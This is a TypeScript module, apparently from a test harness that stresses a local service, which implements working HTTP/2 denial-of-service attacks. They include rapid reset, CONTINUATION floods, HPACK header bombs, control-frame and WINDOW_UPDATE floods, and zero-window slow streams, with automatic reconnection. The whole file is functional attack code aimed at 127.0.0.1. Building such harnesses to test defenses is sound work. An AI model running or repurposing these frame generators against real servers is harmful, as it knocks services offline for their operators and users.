// HTTP/2 connections to another service on the victim's worker that cost what they can: each sends as
// fast as it is read, and comes back when it is turned away.
import { connect, type Socket } from 'node:net';
import {
  block,
  CLIENT_PREFACE,
  frame,
  GET,
  POST,
  SETTINGS,
  uint32,
} from '../../test/support/http2.ts';
import type { Running, Target } from '../attack.ts';

/** An attack is bounded: so many connections, ... */
const CONNECTIONS = 4;
/** ... each of which waits so long before it comes back. */
const AGAIN_MS = 20;
const END_HEADERS = 4;
const END_STREAM = 1;

/** What a connection sends: pieces, one after the other, without an end. */
type Script = () => Generator<string, void>;

function* streams(make: (id: number) => string): Generator<string, void> {
  for (let id = 1; id < 2 ** 30; id += 40) {
    let piece = '';
    for (let i = 0; i < 40; i += 2) piece += make(id + i);
    yield piece;
  }
}

/** Of no method that is served. */
const TRACE = { ...GET, ':method': 'TRACE' };
const get = (id: number) => frame(1, END_HEADERS | END_STREAM, id, block(GET));

const scripts = {
  'rapid-reset': function* () {
    yield* streams((id) => get(id) + frame(3, 0, id, uint32(8)));
  },
  continuation: function* () {
    yield frame(1, END_STREAM, 1, block(GET));
    for (;;) yield frame(9, 0, 1, block({ a: 'x'.repeat(4000) }));
  },
  control: function* () {
    const one = frame(6, 0, 0, '12345678') + frame(4, 0, 0, `\0\x04${uint32(65_535)}`);
    for (;;) yield one.repeat(50);
  },
  'header-bomb': function* () {
    const large = `\x40\x01a\x7f\xa1\x1e${'x'.repeat(4000)}`;
    yield frame(1, END_HEADERS | END_STREAM, 1, block(GET) + large);
    // Each byte stands for 4,000.
    yield* streams((id) =>
      frame(1, END_HEADERS | END_STREAM, id + 2, block(GET) + '\xbe'.repeat(12_000)),
    );
  },
  'tiny-data': function* () {
    yield frame(1, END_HEADERS, 1, block(POST));
    for (;;) yield frame(0, 0, 1, 'x').repeat(500);
  },
  'own-answers': function* () {
    // Each is answered here, and makes room for the next at once.
    yield* streams((id) => frame(1, END_HEADERS | END_STREAM, id, block(TRACE)));
  },
  'slow-streams': function* () {
    // No answer has room; half of the requests have a body that does not end.
    yield frame(4, 0, 0, `\0\x04${uint32(0)}`);
    for (let id = 1; ; id += 4) {
      yield get(id) + frame(1, END_HEADERS, id + 2, block(POST)) + frame(0, 0, id + 2, 'x');
      if (id > 2 ** 30) return;
    }
  },
  'window-updates': function* () {
    yield frame(4, 0, 0, `\0\x04${uint32(1)}`) + get(1);
    for (;;) yield (frame(8, 0, 0, uint32(1)) + frame(8, 0, 1, uint32(1))).repeat(200);
  },
} satisfies Record<string, Script>;

export type Http2Attack = keyof typeof scripts;

export function http2Attack(name: Http2Attack): (target: Target) => Promise<Running> {
  return async ({ otherPort }) => {
    const sockets = new Set<Socket>();
    const timers = new Set<NodeJS.Timeout>();
    let connections = 0;
    let bytes = 0;
    let isOver = false;
    const open = (): void => {
      if (isOver) return;
      connections += 1;
      const socket = connect(otherPort, '127.0.0.1');
      sockets.add(socket);
      const pieces = scripts[name]();
      const send = (): void => {
        let hasRoom = true;
        while (hasRoom && !socket.destroyed) {
          const { value } = pieces.next();
          if (value === undefined) return;
          bytes += value.length;
          hasRoom = socket.write(value, 'latin1');
        }
      };
      socket.on('connect', () => {
        socket.write(CLIENT_PREFACE + SETTINGS, 'latin1');
        send();
      });
      socket.on('drain', send);
      // It reads, or what it is told would be what bounds it.
      socket.resume();
      socket.on('error', () => {});
      socket.on('end', () => socket.destroy());
      socket.once('close', () => {
        sockets.delete(socket);
        const timer = setTimeout(() => {
          timers.delete(timer);
          open();
        }, AGAIN_MS);
        timers.add(timer);
      });
    };
    for (let i = 0; i < CONNECTIONS; i += 1) open();
    return {
      note: () => `${connections} connections, ${(bytes / 2 ** 20).toFixed(1)} MiB`,
      stop: () => {
        isOver = true;
        for (const timer of timers) clearTimeout(timer);
        for (const socket of sockets) socket.destroy();
      },
    };
  };
}
